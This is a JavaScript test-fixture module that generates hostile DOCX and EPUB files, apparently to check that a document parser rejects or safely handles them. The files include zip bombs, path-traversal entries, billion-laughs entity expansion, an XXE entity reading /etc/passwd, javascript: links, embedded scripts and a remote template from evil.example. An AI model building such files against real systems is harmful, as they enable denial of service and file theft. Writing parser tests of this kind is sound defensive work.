import { hostile, noise } from './hostile-file.mjs'
import { bomb, zipOf } from './zip-writer.mjs'

const TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ' +
  'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const RELS =
  '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  `<Relationship Id="r1" Type="${RELATION}/officeDocument" Target="word/document.xml"/></Relationships>`
const OPEN =
  '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' +
  `xmlns:r="${RELATION}"><w:body>`
const CLOSE = '</w:body></w:document>'
const WORDS = '<w:p><w:r><w:t>Words that a reader should see.</w:t></w:r></w:p>'
const BASE = [
  { name: '[Content_Types].xml', data: TYPES },
  { name: '_rels/.rels', data: RELS },
]

/** @param {string} body @param {readonly import('./zip-writer.mjs').ZipEntry[]} [more] @param {string} [prolog] */
const docx = (body, more = [], prolog = '<?xml version="1.0"?>') =>
  zipOf([...BASE, { name: 'word/document.xml', data: `${prolog}${OPEN}${body}${CLOSE}` }, ...more])

const LOL = Array.from({ length: 10 }, (_, i) =>
  i === 0 ? '<!ENTITY l0 "lol">' : `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`,
).join('')

const MIMETYPE = { name: 'mimetype', data: 'application/epub+zip', stored: true }
const CONTAINER = {
  name: 'META-INF/container.xml',
  data:
    '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">' +
    '<rootfiles><rootfile full-path="OEBPS/book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
}
const CHAPTER =
  '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>One</title></head><body><h1>One</h1>' +
  '<p>Words that a reader should see.</p></body></html>'

/** @param {readonly string[]} files the spine, in order @param {string} [prolog] */
const opf = (files, prolog = '<?xml version="1.0"?>') => ({
  name: 'OEBPS/book.opf',
  data:
    `${prolog}<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i"><metadata ` +
    'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="i">x</dc:identifier><dc:title>A book</dc:title>' +
    '<dc:language>en</dc:language></metadata><manifest>' +
    files.map((file, i) => `<item id="c${i}" href="${file}" media-type="application/xhtml+xml"/>`).join('') +
    `</manifest><spine>${files.map((_, i) => `<itemref idref="c${i}"/>`).join('')}</spine></package>`,
})
const chapter = { name: 'OEBPS/one.xhtml', data: CHAPTER }

/** @param {readonly import('./zip-writer.mjs').ZipEntry[]} entries */
const epub = (...entries) => zipOf([MIMETYPE, CONTAINER, ...entries])

/** Word processor documents: a zip with XML in it, so that both can be wrong. */
export const DOCX_FILES = [
  hostile('empty.docx', 'a document without words', 'refused', () => docx('<w:p/>'), { says: /no text/ }),
  hostile('noise.docx', 'no zip at all', 'refused', () => noise(5000)),
  hostile('text.docx', 'plain text renamed', 'refused', () => 'These are plain words in a text file.'),
  hostile('torn.docx', 'the first half of a document', 'refused', () => {
    const whole = docx(WORDS.repeat(2000))
    return whole.subarray(0, whole.length / 2)
  }),
  hostile('headless.docx', 'a document without its main part', 'refused', () => zipOf(BASE)),
  hostile('old.docx', 'an older Word document renamed', 'refused', () =>
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), noise(8000)]),
  ),
  hostile('locked.docx', 'encrypted entries', 'refused', () =>
    zipOf([...BASE, { name: 'word/document.xml', data: noise(800), encrypted: true, stored: true }]),
  ),
  hostile('bomb.docx', 'a part that expands to 2 GB', 'refused', () =>
    zipOf([
      ...BASE,
      {
        name: 'word/document.xml',
        packed: bomb(700, `${OPEN}<w:p><w:r><w:t>`, `</w:t></w:r></w:p>${CLOSE}`),
        claimedSize: 700 * 1024 * 1024,
      },
      { name: 'word/media/a.bin', packed: bomb(700), claimedSize: 700 * 1024 * 1024 },
      { name: 'word/media/b.bin', packed: bomb(700), claimedSize: 700 * 1024 * 1024 },
    ]),
  ),
  hostile('forged.docx', 'a part that expands to 700 MB and says it has 1 KB', 'refused', () =>
    zipOf([
      ...BASE,
      {
        name: 'word/document.xml',
        packed: bomb(700, `${OPEN}<w:p><w:r><w:t>`, `</w:t></w:r></w:p>${CLOSE}`),
        claimedSize: 1024,
      },
    ]),
  ),
  hostile('many.docx', '100,000 entries', 'refused', () =>
    zipOf([...BASE, ...Array.from({ length: 100_000 }, (_, i) => ({ name: `word/${i}`, stored: true }))]),
  ),
  hostile('climbing.docx', 'entries that climb out of the folder', 'either', () =>
    docx(WORDS, [
      { name: '../../../../tmp/postil-was-here', data: 'x' },
      { name: '/tmp/postil-was-here', data: 'x' },
      { name: 'C:\\postil-was-here', data: 'x' },
    ]),
  ),
  hostile('entities.docx', 'entities that expand to each other', 'either', () =>
    docx('<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>', [], `<?xml version="1.0"?><!DOCTYPE d [${LOL}]>`),
  ),
  hostile(
    'outside.docx',
    'entities that read files',
    'either',
    () =>
      docx(
        `<w:p><w:r><w:t>&f;</w:t></w:r></w:p>${WORDS}`,
        [],
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
      ),
    { never: ['root:'] },
  ),
  hostile('deep.docx', 'elements nested 200,000 deep', 'either', () =>
    docx(`${'<w:sdt><w:sdtContent>'.repeat(100_000)}${WORDS}${'</w:sdtContent></w:sdt>'.repeat(100_000)}`),
  ),
  hostile('deep-tables.docx', 'tables nested 5,000 deep', 'either', () =>
    docx(`${'<w:tbl><w:tr><w:tc>'.repeat(5000)}${WORDS}${'</w:tc></w:tr></w:tbl>'.repeat(5000)}`),
  ),
  hostile('scripts.docx', 'links that run and templates that load', 'either', () =>
    docx(`${WORDS}<w:p><w:hyperlink r:id="r9"><w:r><w:t>a link</w:t></w:r></w:hyperlink></w:p>`, [
      {
        name: 'word/_rels/document.xml.rels',
        data:
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
          `<Relationship Id="r9" Type="${RELATION}/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>` +
          `<Relationship Id="r8" Type="${RELATION}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>` +
          '</Relationships>',
      },
    ]),
  ),
  hostile('broken-xml.docx', 'XML that is not well formed', 'either', () =>
    docx(`${WORDS}<w:p><w:r></w:p>&nope;`),
  ),
]

/** E-books: a zip with a list of pages in it. */
export const EPUB_FILES = [
  hostile('noise.epub', 'no zip at all', 'refused', () => noise(5000)),
  hostile('torn.epub', 'the first half of a book', 'refused', () => {
    const whole = epub(opf(['one.xhtml']), { ...chapter, data: CHAPTER.repeat(500) })
    return whole.subarray(0, whole.length / 2)
  }),
  hostile('no-container.epub', 'a book that does not say where it begins', 'refused', () =>
    zipOf([MIMETYPE, chapter]),
  ),
  hostile('no-spine.epub', 'a book without chapters', 'refused', () => epub(opf([]))),
  hostile('missing.epub', 'a chapter that is not there', 'either', () =>
    epub(opf(['one.xhtml', 'two.xhtml']), chapter),
  ),
  hostile(
    'climbing.epub',
    'a chapter outside the book',
    'either',
    () => epub(opf(['../../../etc/passwd', 'file:///etc/passwd', 'one.xhtml']), chapter),
    { never: ['root:'] },
  ),
  hostile('rights.epub', 'a book locked to one reader', 'refused', () =>
    epub(
      opf(['one.xhtml']),
      { ...chapter, data: noise(3000) },
      {
        name: 'META-INF/encryption.xml',
        data:
          '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><EncryptedData ' +
          'xmlns="http://www.w3.org/2001/04/xmlenc#"><EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes256-cbc"/>' +
          '<CipherData><CipherReference URI="OEBPS/one.xhtml"/></CipherData></EncryptedData></encryption>',
      },
    ),
  ),
  hostile('entities.epub', 'entities that expand to each other', 'either', () =>
    epub(opf(['one.xhtml'], `<?xml version="1.0"?><!DOCTYPE p [${LOL}]>`), chapter),
  ),
  hostile('many.epub', '20,000 chapters', 'either', () =>
    epub(opf(Array.from({ length: 20_000 }, () => 'one.xhtml')), chapter),
  ),
  hostile('bomb.epub', 'a chapter that expands to 700 MB', 'refused', () =>
    epub(opf(['one.xhtml']), {
      name: 'OEBPS/one.xhtml',
      packed: bomb(700, '<html><body><p>'),
      claimedSize: 2048,
    }),
  ),
  hostile(
    'scripts.epub',
    'scripts in a chapter',
    'either',
    () =>
      epub(opf(['one.xhtml']), {
        ...chapter,
        data: CHAPTER.replace('</body>', '<script>CHAPTERSCRIPT</script><a href="javascript:x">y</a></body>'),
      }),
    { never: ['CHAPTERSCRIPT'] },
  ),
  hostile('plain.zip', 'a zip of something else', 'refused', () => zipOf([{ name: 'a.txt', data: 'words' }])),
  hostile('book.txt', 'a book renamed', 'either', () => epub(opf(['one.xhtml']), chapter)),
]
